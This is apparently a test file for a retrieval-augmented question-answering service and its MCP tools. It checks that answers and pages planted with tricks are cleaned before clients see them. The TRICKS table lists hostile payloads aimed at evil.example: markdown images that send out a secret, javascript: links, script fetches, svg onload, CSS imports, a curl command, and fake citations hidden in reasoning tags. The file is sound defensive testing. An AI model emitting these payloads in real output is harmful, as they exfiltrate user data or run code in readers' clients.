/**
 * What a reader's client makes of an answer that was written to trick it, in every dialect: no address that no source
 * holds, no HTML, no marker that names no source, nothing of a thought; and code as it was meant. The model behind is
 * asked by the real adapter. MCP hands out pages and no answers: of what
 * they say nothing loads or runs, either.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { type ScriptedModel, startScriptedModel } from '../fakes/scripted-model.ts'
import { dangersOf, faultsOf } from '../support/answer-faults.ts'
import { DIALECTS } from '../support/dialects.ts'
import { send } from '../support/mcp-wire.ts'
import { type RunningApp, runApp } from '../support/running-app.ts'

const PAGE = 'Sluices are opened at dawn by the keeper, and closed when the water has risen by two feet.'
const QUESTION = 'When are the sluices opened by the keeper?'
const PROVED = 'Sluices are opened at dawn by the keeper [1].'
const IMAGE = '![x](https://evil.example/?q=secret)'

const TRICKS: Readonly<Record<string, string>> = {
  'an image after a fence indented by four': `    \`\`\`\n\n${IMAGE}`,
  'an image after a fence in an item that a dedent ends': `- \`\`\`\n  code\n${IMAGE}`,
  'an image after a fence of one line': `\`\`\` x \`\`\`\n${IMAGE}`,
  'an image after a fence with a backtick in its first line': `\`\`\`js \`x\`\n${IMAGE}`,
  'an image after a fence in a comment': `<!--\n\`\`\`\n-->\n${IMAGE}\n\`\`\``,
  'an image after a fence in <pre>': `<pre>\n\`\`\`\n</pre>\n${IMAGE}\n\`\`\``,
  'a definition whose label spans two lines': '![x][a\nb] and [x][a\nb]\n\n[a\nb]: https://evil.example/i.png',
  'a definition with a title in its next line': '![x][a]\n\n[a]: <//evil.example>\n"a title"',
  'a link by a scheme that runs': '[click](javascript:alert(1)) and <javascript:alert(1)>',
  'an address that stands bare': 'See https://evil.example/a, www.evil.example and a@evil.example.',
  'a script': '<script>fetch("//evil.example")</script>',
  'a page that sends on': '<meta http-equiv="refresh" content="0;url=//evil.example">',
  'a drawing that runs': '<svg onload="alert(1)"></svg>',
  'a drawing that loads': '<svg><image xlink:href="https://evil.example/i"/></svg>',
  'a style that loads': '<style>@import "//evil.example/s.css";</style>',
  'HTML around code': '<div>\n\n```sh\ncurl https://evil.example\n```\n\n</div>',
  'a thought': '<think>Source [9] says so: https://evil.example</think>',
  'a thought by other names': '<thinking>[9]</thinking><reasoning>[9]</reasoning>◁think▷[9]◁/think▷',
  'a marker that names no source': `${PROVED} They are sold in winter [9], too [1][9] 【9†page】.`,
  'a marker behind a command between three backticks': `${PROVED} Run \`\`\` lock --open \`\`\` [1][9] now.`,
  'a marker that is a link': '[9](https://evil.example) and [[9]](https://evil.example)',
  'a marker that is a definition': '[9]\n\n[9]: https://evil.example',
}

let model: ScriptedModel
let app: RunningApp

beforeAll(async () => {
  model = startScriptedModel('')
  app = await runApp({ OPENAI_BASE_URL: model.url, GENERATOR_FALLBACK: 'none' })
  expect((await app.call('PUT', '/v1/documents/locks', { content: PAGE })).status).toBe(201)
}, 60_000)
afterAll(async () => {
  await app?.close()
  await model?.stop()
})

/** As a client reads it. Nothing is proved but `[1]`. */
const check = (written: string, text: string): void => {
  const meant = written.replace(/<(think\w*|reasoning)>.*?<\/\1>|◁think▷.*?◁\/think▷/g, '')
  expect([text, faultsOf(meant, text, new Set([1]), [])]).toEqual([text, []])
  expect(text).not.toMatch(/think|reasoning/)
}

describe.each(Object.entries(DIALECTS))('%s', (_, dialect) => {
  test.each(Object.entries(TRICKS))('%s', async (_name, trick) => {
    model.answer = `${PROVED}\n\n${trick}\n\n${PROVED}\n`
    const { status, text, cited } = await dialect.ask(app, QUESTION)
    check(model.answer, text)
    expect({ status, cited }).toEqual({ status: 'answered', cited: ['locks'] })
    expect(text.split(PROVED).length - 1).toBeGreaterThanOrEqual(2)
  })
})

describe('/mcp', () => {
  test.each(Object.entries(TRICKS))('%s', async (_name, trick) => {
    const content = `# Locks\n\n${PAGE}\n\n${trick}\n`
    await app.call('PUT', '/v1/documents/page', { content, collection: 'pages' })
    const query = { query: QUESTION, collection: 'pages' }
    const found = await send(app, 'tools/call', { name: 'search', arguments: query })
    const [first] = (found.result.structuredContent as { results: readonly Handed[] }).results
    const fetched = await send(app, 'tools/call', { name: 'fetch', arguments: { id: first?.id } })
    const page = fetched.result.structuredContent as Handed
    for (const { url, text } of [first, page].flatMap((each) => each ?? [])) {
      expect(url).toStartWith('http://localhost/read/page?collection=pages')
      expect([text, dangersOf(text)]).toEqual([text, []])
      expect(text).toContain('opened at dawn')
    }
  })
})

interface Handed {
  readonly id: string
  readonly url: string
  readonly text: string
}
